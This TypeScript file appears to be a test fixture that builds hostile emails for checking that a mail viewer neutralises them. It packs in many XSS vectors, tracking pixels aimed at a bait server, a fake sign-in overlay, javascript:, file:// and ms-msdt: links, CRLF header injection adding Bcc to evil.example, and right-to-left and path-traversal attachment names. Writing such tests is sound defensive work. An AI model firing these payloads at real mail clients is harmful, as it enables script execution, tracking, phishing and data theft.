/** A mail that tries to do harm. `words` stand in it, harmless, and must be shown. */
export interface HostileMail {
  readonly name: string
  readonly words: string
  /** Words that the mail hides from the eye; nobody must see them as part of the message. */
  readonly hidden?: string
  readonly source: string
}

/** Sets this on the page where any script of a mail runs. */
export const MARK = 'hostileRan'
const RUN = `window.${MARK}=1`

/** Right-to-left override, isolates, and the marks around them. */
const TURNED = '\u202e'

/**
 * Mails that try everything that is known to do harm to a program that shows mail.
 * @param bait an address of a server that counts who asks
 */
export function hostileMails(bait: string): readonly HostileMail[] {
  const html = (name: string, words: string, body: string, more: readonly string[] = []): HostileMail => ({
    name,
    words,
    source: mail(name, [...more, 'Content-Type: text/html; charset=utf-8'], body)
  })
  return [
    html(
      'scripts',
      'your resume was full of spelling mistakes',
      `<html><head><base href="${bait}/base/"><meta http-equiv="refresh" content="0;url=${bait}/refresh"><link rel="import" href="${bait}/import"></head>
      <body onload="${RUN}" onpageshow="${RUN}"><script>${RUN}</script><script src="${bait}/script.js"></script>
      <p onclick="${RUN}" onmouseover="${RUN}">Dear Sam, your resume was full of spelling mistakes.</p>
      <img src=x onerror="${RUN}"><svg onload="${RUN}"><script>${RUN}</script><animate onbegin="${RUN}" attributeName="x" dur="1s"/><foreignObject><iframe src="javascript:parent.${MARK}=1"></iframe></foreignObject></svg>
      <math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext><maction actiontype="statusline#${bait}" xlink:href="javascript:${RUN}">m</maction></math>
      <details open ontoggle="${RUN}">d</details><video autoplay onerror="${RUN}"><source src=x onerror="${RUN}"></video>
      <iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe><iframe src="${bait}/frame"></iframe>
      <object data="${bait}/object"></object><embed src="${bait}/embed"><applet code="${bait}/applet"></applet>
      <template><script>${RUN}</script></template><noscript><p title="</noscript><img src=x onerror=${RUN}>"></p></noscript>
      <xmp><script>${RUN}</script></xmp><marquee onstart="${RUN}">m</marquee><input autofocus onfocus="${RUN}"></body></html>`
    ),
    html(
      'remote things',
      'you did not have enough experience with databases',
      `<html><head><link rel="stylesheet" href="${bait}/a.css"><link rel="preload" as="image" href="${bait}/preload"><link rel="dns-prefetch" href="//tracker.example"><link rel="preconnect" href="${bait}"><link rel="prefetch" href="${bait}/prefetch">
      <style>@import "${bait}/b.css"; @import url(${bait}/c.css); @font-face { font-family: x; src: url(${bait}/font.woff2) } body { background: url(${bait}/body.png); font-family: x } p::before { content: url(${bait}/before.png) }</style></head>
      <body background="${bait}/background.png"><p style="background-image:url('${bait}/p.png');list-style:url(${bait}/l.png);cursor:url(${bait}/c.cur),auto">Unfortunately you did not have enough experience with databases.</p>
      <img src="${bait}/pixel.gif" width="1" height="1"><img srcset="${bait}/1.png 1x, ${bait}/2.png 2x"><picture><source srcset="${bait}/3.png"></picture><video poster="${bait}/poster.png" src="${bait}/video.mp4"></video><audio src="${bait}/a.mp3" autoplay></audio>
      <input type="image" src="${bait}/i.png"><table background="${bait}/t.png"><tr><td background="${bait}/td.png">x</td></tr></table><bgsound src="${bait}/b.wav"><svg><image href="${bait}/svg.png"/><use href="${bait}/u.svg#a"/></svg></body></html>`
    ),
    {
      ...html(
        'css tricks',
        'we went on with somebody who knows our tools',
        `<html><head><style>body { behavior: url(${bait}/x.htc); -moz-binding: url(${bait}/x.xml#a); width: expression(${RUN}) } .o { position: fixed; inset: 0; z-index: 2147483647; background: red } * { animation: a 1s } main, nav, button { display: none !important }</style></head>
        <body><div class="o" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999"><a href="${bait}/click">Your account is locked. Sign in again.</a></div>
        <p>Thank you, but we went on with somebody who knows our tools.</p>
        <p style="display:none">SECRETWORDS</p><p style="max-height:0;overflow:hidden">SECRETWORDS</p><p style="visibility:hidden">SECRETWORDS</p><p hidden>SECRETWORDS</p></body></html>`
      ),
      hidden: 'SECRETWORDS'
    },
    html(
      'links',
      'we cannot offer you the position',
      `<p>Sorry, we cannot offer you the position. <a href="javascript:${RUN}">one</a> <a href="JaVa&#x09;Script:${RUN}">two</a> <a href="vbscript:msgbox(1)">three</a> <a href="file:///etc/passwd">four</a> <a href="data:text/html,<script>opener.${MARK}=1</script>" target="_blank">five</a>
      <a href="\\\\evil.example\\share\\x.exe">six</a> <a href="ms-msdt:/id">seven</a> <a href="search-ms:query=x">eight</a> <a href="${bait}/nine" ping="${bait}/ping" target="_top">nine</a> <a href="blob:app://coachable/1">ten</a> <a href="app://coachable/index.html" download>eleven</a> <a href="view-source:file:///etc/passwd">twelve</a></p>
      <map name=m><area shape=rect coords="0,0,9999,9999" href="javascript:${RUN}"></map>`
    ),
    html(
      'forms',
      'the position has been filled',
      `<p>Dear Sam, the position has been filled.</p><form id=f action="${bait}/form" method="post"><input name=password type=password value=x><button formaction="javascript:${RUN}">Sign in</button></form><button form=f formaction="${bait}/other">Go</button><isindex action="${bait}/isindex"><dialog open>d</dialog><input type=file><keygen>`
    ),
    {
      name: 'plain words that look like a page',
      words: '<img src=x onerror=',
      source: mail(
        'plain words that look like a page',
        ['Content-Type: text/plain; charset=utf-8'],
        `Dear Sam,\r\n\r\n<img src=x onerror="${RUN}"> <script>${RUN}</script> javascript:${RUN} ${bait}/plain\r\n\r\nYour resume was too long for us. {{constructor.constructor('${RUN}')()}} \${${RUN}}\r\n`
      )
    },
    {
      name: 'turned names',
      words: 'your resume had no structure',
      source: mail(
        `${TURNED}txt.exe\u2066\u200b ${'long '.repeat(4000)}`,
        [`X-Bidi: ${TURNED}`, 'Content-Type: multipart/mixed; boundary=b'],
        [
          '--b',
          'Content-Type: text/plain; charset=utf-8',
          '',
          `Dear Sam, your resume had no structure. ${TURNED}degnahc eb lliw siht\u202c`,
          '--b',
          `Content-Type: application/octet-stream; name="../../../../etc/invoice${TURNED}fdp.exe"`,
          `Content-Disposition: attachment; filename="../../../../etc/invoice${TURNED}fdp.exe"`,
          '',
          'x',
          '--b',
          'Content-Type: text/html; name="<img src=x onerror=alert(1)>.html"',
          'Content-Disposition: attachment; filename="<img src=x onerror=alert(1)>.html"',
          '',
          `<script>${RUN}</script>`,
          '--b--'
        ].join('\r\n')
      )
    },
    {
      name: 'headers in headers',
      words: 'your cover letter named another company',
      source: [
        'From: =?utf-8?Q?Eve=0D=0ABcc:_eve@evil.example=0D=0A?= <eve@evil.example>',
        'Reply-To: "x" <a@b.example%0d%0aBcc:eve@evil.example?bcc=eve@evil.example&attach=/etc/passwd>',
        'To: sam@mail.example',
        'Date: Mon, 2 Nov 2026 10:00:00 +0000',
        'Message-ID: <x@evil.example>\r\n <y@evil.example> Bcc: z@evil.example',
        'Subject: =?utf-8?Q?Your_application=0D=0ABEGIN:VEVENT=0D=0AATTACH:file:///etc/passwd?=',
        'X-Unknown: =?utf-7?Q?+ADw-script+AD4-?=',
        'Content-Type: text/plain; charset=utf-8',
        '',
        'Dear Sam, we did not choose you: your cover letter named another company.',
        ''
      ].join('\r\n')
    },
    {
      name: 'parts of all kinds',
      words: 'your portfolio did not open',
      source: mail(
        'parts of all kinds',
        ['Content-Type: multipart/mixed; boundary=b'],
        [
          '--b',
          `Content-Type: message/external-body; access-type=URL; URL="${bait}/external"`,
          '',
          'Content-Type: text/html',
          '',
          '--b',
          'Content-Type: multipart/alternative; boundary=c',
          '',
          '--c',
          'Content-Type: text/x-amp-html; charset=utf-8',
          '',
          `<!doctype html><html ⚡4email><head><script async src="${bait}/amp.js"></script></head><body><amp-img src="${bait}/amp.png"></amp-img></body></html>`,
          '--c',
          'Content-Type: text/html; charset=utf-7',
          '',
          `+ADw-script+AD4-${RUN}+ADw-/script+AD4-<p>Dear Sam, your portfolio did not open, so we chose another candidate.</p><img src="cid:pixel"><img src="${bait}/cid">`,
          '--c--',
          '--b',
          'Content-Type: image/svg+xml; name=p.svg',
          'Content-ID: <pixel>',
          'Content-Disposition: inline',
          '',
          `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`,
          '--b',
          'Content-Type: text/calendar; method=REQUEST; charset=utf-8',
          '',
          `BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1\r\nATTACH:${bait}/attach\r\nURL:javascript:${RUN}\r\nSUMMARY:<script>${RUN}</script>\r\nEND:VEVENT\r\nEND:VCALENDAR`,
          '--b--'
        ].join('\r\n')
      )
    }
  ]
}

function mail(subject: string, headers: readonly string[], body: string): string {
  return [
    `From: "<img src=x onerror=${RUN}>" <recruiter@evil.example>`,
    'To: sam@mail.example',
    `Subject: <script>${RUN}</script> ${subject}`,
    'Date: Mon, 2 Nov 2026 10:00:00 +0000',
    'MIME-Version: 1.0',
    ...headers,
    '',
    body,
    ''
  ].join('\r\n')
}
